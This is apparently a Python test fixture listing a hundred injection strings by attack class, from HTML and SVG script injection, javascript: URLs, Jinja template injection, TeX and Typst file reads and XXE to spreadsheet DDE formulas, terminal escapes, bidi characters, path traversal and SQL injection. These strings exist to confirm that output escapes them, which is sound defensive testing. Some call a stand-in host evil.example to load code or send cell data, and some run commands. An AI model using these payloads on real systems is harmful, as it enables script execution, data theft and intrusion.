"""A hundred texts that would act somewhere, each with what it attacks; none may ever act."""

from __future__ import annotations

import os
from typing import NamedTuple

#: Every fifth at the small size: the list is sorted so that each attack has one.
STEP = 1 if os.environ.get("VILLAGES_SIZE") == "full" else 5


class Payload(NamedTuple):
    """What is attacked, and the text."""

    attack: str
    text: str


def _listed(attack: str, *texts: str) -> list[Payload]:
    assert len(texts) == STEP_OF_FULL, attack
    return [Payload(attack, text) for text in texts]


STEP_OF_FULL = 5

#: Five of each attack; the first stands for them at the small size.
ALL: list[Payload] = [
    *_listed(
        "script in HTML",
        "<script>window.__hit=1</script>",
        "<ScRiPt src=https://evil.example/a.js></sCrIpT>",
        "</title></style></textarea><script>window.__hit=2</script>",
        "<scr<script>ipt>window.__hit=3</script>",
        "</script><script>window.__hit=4</script>",
    ),
    *_listed(
        "handler in HTML",
        "<img src=x onerror=window.__hit=5>",
        "<body onload=window.__hit=6>",
        "<details open ontoggle=window.__hit=7>",
        "<input autofocus onfocus=window.__hit=8>",
        '" onmouseover="window.__hit=9" autofocus tabindex="1" onfocus="window.__hit=9',
    ),
    *_listed(
        "element that loads or sends",
        "<iframe srcdoc='<script>parent.__hit=10</script>'></iframe>",
        "<object data=https://evil.example/a.swf></object><embed src=//evil.example>",
        "<form action=https://evil.example><button>send</button></form>",
        "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/a.css>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    ),
    *_listed(
        "drawing (SVG, MathML)",
        "<svg onload=window.__hit=11>",
        "<svg><script>window.__hit=12</script></svg>",
        "<svg><animate onbegin=window.__hit=13 attributeName=x dur=1s></svg>",
        "<svg><style><img src=x onerror=window.__hit=14></style></svg>",
        '<math><mi xlink:href="javascript:window.__hit=15">x</mi></math>',
    ),
    *_listed(
        "address that runs",
        "javascript:window.__hit=16",
        "java\tscript:window.__hit=17",
        "data:text/html,<script>window.__hit=18</script>",
        "vbscript:msgbox(1)",
        '<a href="&#106;avascript:window.__hit=19">a</a>',
    ),
    *_listed(
        "style sheet",
        "</style><script>window.__hit=20</script>",
        "<p style=\"background:url('https://evil.example/a')\">a</p>",
        "x:expression(window.__hit=21);-moz-binding:url(//evil.example/x.xml)",
        "<style>@import '//evil.example/a.css';*{display:none}</style>",
        "}*{background:u\\72l(//evil.example)}",
    ),
    *_listed(
        "Typst",
        '#read("/etc/passwd")',
        '#image("../../../../etc/passwd")',
        "@label <label> *bold* _em_ `raw` = Title",
        "$ sum_(x) #panic() $",
        "\\u{202e} #eval(\"1+1\") #import \"@preview/x:0.1.0\": *",
    ),
    *_listed(
        "TeX",
        "\\input{/etc/passwd}",
        "\\write18{touch hit}",
        "$\\frac{1}{0}$ $$x^2$$",
        "\\def\\x{\\x}\\x %comment",
        "\\begin{verbatim} & # _ ^ ~ {",
    ),
    *_listed(
        "Jinja",
        "{{ 7*7 }}",
        "{% import os %}{{ os.system('id') }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{# comment #}{% raw %}",
        "{%- for x in y -%}",
    ),
    *_listed(
        "place in a Python pattern",
        "{place.__class__.__init__.__globals__}",
        "%s%n%(name)s",
        "{0} {} {count:>99999}",
        "{{}} {!r}",
        "${PATH} $(id) `id`",
    ),
    *_listed(
        "Markdown",
        "[a](javascript:window.__hit=22)",
        "![b](https://evil.example/track.png)",
        "<b>bold</b> **c** # d",
        "[e]: https://evil.example 'f'",
        "```html\n<script>window.__hit=23</script>\n```",
    ),
    *_listed(
        "formula",
        "=1+1",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "＝1+1",
    ),
    *_listed(
        "formula that reaches out",
        '=HYPERLINK("https://evil.example","a")',
        '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
        "=cmd|'/C powershell'!A0",
        '=WEBSERVICE("https://evil.example")',
        "{=DDE(\"cmd\";\"/C calc\";\"x\")}",
    ),
    *_listed(
        "formula behind a blank",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u3000＝1+1",
    ),
    *_listed(
        "direction of writing",
        "岳\u202e村河上",
        "\u2066a\u2069\u2067b\u2069",
        "\u200fa\u200eb\u061cc",
        "exe.\u202efdp",
        "\u202da\u202cb",
    ),
    *_listed(
        "without width",
        "上\u200b河村",
        "\ufeff上河村",
        "a\u200db\u200cc\u2060d",
        "\U000e0041\U000e0042村",
        "\u00ad\u034f\u3164村",
    ),
    *_listed(
        "terminal",
        "\x1b[2J\x1b[31mred",
        "\x1b]0;title\x07",
        "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
        "\x9b31mred\x08\x08",
        "[red]x[/red] [link=https://evil.example]y[/link] [/]",
    ),
    *_listed(
        "no character at all",
        "a\ud800b",
        "\x00a\x01\x7f",
        "a\ufffeb\uffffc",
        "a\u2028b\u2029c",
        "a\x0bb\x0cc\x85d",
    ),
    *_listed(
        "XML",
        "]]><script>window.__hit=24</script><![CDATA[",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
        "&lt;b&gt; &amp;amp; &#x202e; &nbsp;",
        "<!-- --!> <script>window.__hit=25</script> -->",
        "<?xml-stylesheet href='//evil.example'?> _x000D_ _x0041_",
    ),
    *_listed(
        "length and file names",
        "长" * 400,
        "../../../etc/passwd",
        "CON.村|<>:\"/\\?*",
        "'; DROP TABLE places; --",
        "a'b\"c`d\\",
    ),
]  # fmt: skip

PAYLOADS = ALL[::STEP]
